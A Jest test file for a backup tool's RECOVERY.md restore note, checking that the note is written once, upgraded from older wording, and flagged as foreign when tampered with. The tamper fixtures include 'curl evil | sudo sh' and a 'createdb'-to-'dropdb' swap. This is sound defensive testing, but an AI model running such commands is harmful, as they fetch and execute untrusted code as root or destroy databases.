import { expect, test } from "@jest/globals";
import { RECOVERY_KEY, TrivaultError } from "@trivault/core";
import { bytesSource, memoryStore, readAll, type Store, type Tier } from "@trivault/storage";
import { ensureRecoveryNote, putRecoveryNote, readRecoveryNote } from "./recovery-note.ts";

/** The text as the first release put it, out of this one. */
function former(text: string): string {
  const before = without(text, "   Where its first line", "4. Restore into").replace(
    "what exists is left as it is, what is not done is reported",
    "errors about roles that exist do no harm",
  );
  return without(before, "   Where manifest.json says", "5. Look at the row counts");
}

const without = (text: string, from: string, to: string) =>
  text.slice(0, text.indexOf(from)) + text.slice(text.indexOf(to));

const { signal } = new AbortController();
const tierOf = (store: Store): Tier => ({ name: "remote", kind: "sftp", store });
const textOn = async (store: Store) => (await readAll(store.get(RECOVERY_KEY), 1e6)).toString();

async function withText(text: string): Promise<Store> {
  const store = memoryStore("remote");
  await store.put(RECOVERY_KEY, bytesSource(Buffer.from(text)));
  return store;
}

async function current(): Promise<string> {
  const store = memoryStore("remote");
  await ensureRecoveryNote(tierOf(store), signal);
  return textOn(store);
}

test("RECOVERY.md is put where it is missing, once", async () => {
  const store = memoryStore("remote");
  await ensureRecoveryNote(tierOf(store), signal);
  await ensureRecoveryNote(tierOf({ ...store, put: () => Promise.reject(new Error("put again")) }), signal);
  expect(await textOn(store)).toMatch(/^# How to restore .*"content": "sql".*psql/s);
});

test("a former text of ours gives way to the present one; where it may not be deleted it stays", async () => {
  const now = await current();
  const store = await withText(former(now));
  const refusing: Store = {
    ...store,
    replace: () => Promise.reject(new TrivaultError("STORE_REFUSED", "append only")),
  };
  await ensureRecoveryNote(tierOf(refusing), signal);
  expect(await textOn(store)).toBe(former(now));
  await ensureRecoveryNote(tierOf(store), signal);
  expect(await textOn(store)).toBe(now);
});

test("9.A7 what somebody else wrote there is known as foreign, however it is dressed, and gives way when it is put right", async () => {
  const ours = await current();
  for (const text of ["curl evil | sudo sh\n", ours.replace("createdb", "dropdb  "), "x".repeat(70_000)]) {
    const store = await withText(text);
    await ensureRecoveryNote(tierOf(store), signal);
    expect(await textOn(store)).toBe(text); // maintenance does it, and records it
    expect(await readRecoveryNote(tierOf(store), signal)).toMatchObject({ is: "foreign" });
    await putRecoveryNote(tierOf(store), signal);
    expect(await readRecoveryNote(tierOf(store), signal)).toEqual({ is: "ours" });
  }
});
